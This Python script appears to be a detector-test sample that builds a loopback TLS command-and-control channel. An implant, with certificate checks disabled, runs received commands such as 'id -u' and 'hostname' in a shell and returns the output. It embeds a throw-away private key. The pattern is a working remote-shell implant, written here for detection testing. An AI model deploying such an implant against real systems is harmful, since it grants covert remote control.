# technique: T1573.002 T1059.004 T1095
"""Encrypted C2 over TLS on a raw socket: commands arrive inside TLS and run in a shell (T1573.002, T1059.004, T1095).

Our loopback "server" (a thread with a throw-away self-signed certificate
embedded below, test material only) speaks TLS on a raw TCP port; the
implant connects with ssl and certificate verification switched off
(CERT_NONE), reads newline-separated commands, runs each with
subprocess.check_output(shell=True) and returns the output over the
same channel. Content inspection sees only ciphertext; in-process records
see the plaintext.

A good detector raises a high alert: commands received over a network
connection (TLS or not) are run by a shell.
"""
import os
import socket
import ssl
import subprocess
import tempfile
import threading

# A self-signed certificate and key made for this test only (CN=update.local); not a secret.
KEY_PEM = """-----BEGIN PRIVATE KEY-----
MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQCYaCKlm4SH0koB
JKVqZlAExH3SQXuqmpIRY4mfkpNkA9dSpsG1T9VzBTy51iVlmNTyQMtHMJoOYiFa
hgI+sZNL9zg68e05zTo1fTO2/pGUalc+Fl4owVYloyalgchOdqxPaxzvwSO/Bo7d
bWXk3yXll2MJU0xc3KVCgpd6aumKvL7ZjXXpcDLxejLcGpR+UUfSxVrKiPBabnOd
W7iaR0PH92K+5HDOigPaAY0aJdH2fKg+bfV5lN8b4jW/Bgnwsm+K+RXTgNB2M9bl
a2LDY2AhbiaqbDQZ7pAZFkmymYIlASnSRBhKWQ/ZlBFG2wRx5AZjYIKQyMWENSi+
G7u3hRgPAgMBAAECggEAAsUtQ8cEDYQXpWcSwS5iLAe+9iH6pLSnJpJdKzL/FqZo
KC29t0ysnu0qV/l3vDdSUOe/3Vr3bzrC7ddmVem6MMgyfn1kY9i+GGsi4N9obwMD
r4wfZwYs4v0dsb/aD7m3W3y651ozm+a3HXjGr2VpxMOLk+4MgvyIIjKWnL66aWbo
KGWqEP34SyFoRZqazOnf3gAmx8MkK4+E8FquUoPlhomULPOT83UXU8JiRvIDV9hg
/HYKSV2lNHWEXzZaI5qEc+oy4h2Qa9NFH8IoDKDhYUOD7iindxMLwxTZHEMJ+5gV
VU25I9pF9PQLrauWvvU5+mDcQShoJTq3yzovbY2uiQKBgQDOi+QwKDUrulyVZwn5
sCmDKMstDDmNb6tObcBOqPTal8spOZ/avCBcHcJXIl4qM9mrBoE8bWoC08YPzRbL
TX0JiDk8WGLCr+CiNtr+JFuXuDembvKqmONu2bFi5FC8c8sl2C2meTlIkX6CEtl/
56wE8ai9EgYXPL6I8P3w83R99wKBgQC85csvVd8U0Y8yuDSoSkZJ401i3VK7Xu8i
1brx+Foz/9yOps9bHclP3zzq966FcSl/XqFaaPSwjEPxELtxIo//LC3JjbQZPQ3I
CspX+Uw4eT0QW/UHnha/kXTVuAYkgfQxI1gaPefD87hFLDZEDxIeHHxxpKRUHL3G
Eq2LGJWQqQKBgGw7dfmeOC6P25AWjG2g2D/4km8qpsXsrFHOxSTy+EvLmxQhNBkE
19gtZ/cM9VccEIXERNiLZS/SFUmWaMlj84+ZKJTso+PtEcMvB5aBKtXYHKFEJjkr
IJKn1IJDreLyspNEMre3ckMKqsYyZnLVzZhRoeBhn3txw04zKn6mtHaFAoGAME06
NXJpxrMHQNrlbBsB+ibLRPp/CzZtQ6UPVoxA1IcaaMeywgPN1ESrGRIYaDrVd6JE
9A9ecj6LqPq0U2uZEpDDbIR1hvabrYlE0FYI7W/i82nwL/B2tKmHDJcvyuoH/QCi
qKMnvm11swppHeIUqepyz8Rf2Lo4tItWIPk6VXECgYEAiLJ4yj6ofLKrrGJ7QEyO
aZ16owi+Qht8gNCxHhn0GKpiNim5QwNMXrNLXNhQxE1OfB3jDMD/es6tTgzdWTub
we5gds65JTar7IfCooyX4gOfoQjqevLqrDkz4nTuVkyruhoJ95CfEMKE2xtxqSJC
TDDKyH2zCYFkLX21vDXb4Es=
-----END PRIVATE KEY-----
"""
CERT_PEM = """-----BEGIN CERTIFICATE-----
MIIDDzCCAfegAwIBAgIUQ1mt2L6x1vNwlwUWX5oWbfXEvukwDQYJKoZIhvcNAQEL
BQAwFzEVMBMGA1UEAwwMdXBkYXRlLmxvY2FsMB4XDTI2MTEyNjA0MDgwMloXDTM2
MTEyMzA0MDgwMlowFzEVMBMGA1UEAwwMdXBkYXRlLmxvY2FsMIIBIjANBgkqhkiG
9w0BAQEFAAOCAQ8AMIIBCgKCAQEAmGgipZuEh9JKASSlamZQBMR90kF7qpqSEWOJ
n5KTZAPXUqbBtU/VcwU8udYlZZjU8kDLRzCaDmIhWoYCPrGTS/c4OvHtOc06NX0z
tv6RlGpXPhZeKMFWJaMmpYHITnasT2sc78EjvwaO3W1l5N8l5ZdjCVNMXNylQoKX
emrpiry+2Y116XAy8Xoy3BqUflFH0sVayojwWm5znVu4mkdDx/divuRwzooD2gGN
GiXR9nyoPm31eZTfG+I1vwYJ8LJvivkV04DQdjPW5Wtiw2NgIW4mqmw0Ge6QGRZJ
spmCJQEp0kQYSlkP2ZQRRtsEceQGY2CCkMjFhDUovhu7t4UYDwIDAQABo1MwUTAd
BgNVHQ4EFgQUKl2V4Aw3KUfYoD7Smq9qiwD/eW8wHwYDVR0jBBgwFoAUKl2V4Aw3
KUfYoD7Smq9qiwD/eW8wDwYDVR0TAQH/BAUwAwEB/zANBgkqhkiG9w0BAQsFAAOC
AQEAJOo5WZFmnDIPZDUg44KpbpEF+bpZLG//lk/ITtuvFkV9hNm4+CIWMl+7IisE
ytAznpQ8F39GmJGH36uPpKTPP4pRoYEdta6NVYkcvQtdruoIjV9WaGdddopqa2qX
0n8diHkc4zj1s2LXtyvDEETeSyzxEsd+psc2WS65cgF1m6c0T7qCugyajjlJRk11
PHoNukuzlEAEmGy4v0/WWH2QWOQnxxZIvLL4f8r03uIepUdBSuBzMLzx0J02PlyV
EhELWkHCtttSNaVCuSSRwuEXGpOZ4chH2Iv7pe3YskbO6SuYcYdQw/EyGcGsSsMl
UaLJae7fMSyllhC/msinkl1snQ==
-----END CERTIFICATE-----
"""

material = tempfile.mkdtemp()
key_path = os.path.join(material, "k.pem")
cert_path = os.path.join(material, "c.pem")
with open(key_path, "w") as f:
    f.write(KEY_PEM)
with open(cert_path, "w") as f:
    f.write(CERT_PEM)
server_context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
server_context.load_cert_chain(cert_path, key_path)
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(1)
listener.settimeout(4)
port = listener.getsockname()[1]
replies = []


def controller():
    raw, _ = listener.accept()
    with server_context.wrap_socket(raw, server_side=True) as tls:
        tls.settimeout(5)
        tls.sendall(b"id -u\nhostname\nexit\n")
        data = b""
        try:
            while True:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                data += chunk
        except (OSError, ssl.SSLError):
            pass
        replies.append(data)


thread = threading.Thread(target=controller, daemon=True)
thread.start()
client_context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
client_context.check_hostname = False
client_context.verify_mode = ssl.CERT_NONE
with client_context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5)) as channel:
    stream = channel.makefile("rb")
    for line in stream:
        command = line.strip().decode()
        if command == "exit":
            break
        channel.sendall(subprocess.check_output(command, shell=True, timeout=5))
    stream.close()
    try:
        channel.unwrap()
    except (ssl.SSLError, OSError):  # the controller may hang up without its close_notify
        pass
thread.join(3)
for name in (key_path, cert_path):
    os.unlink(name)
os.rmdir(material)
print("controller got", replies)
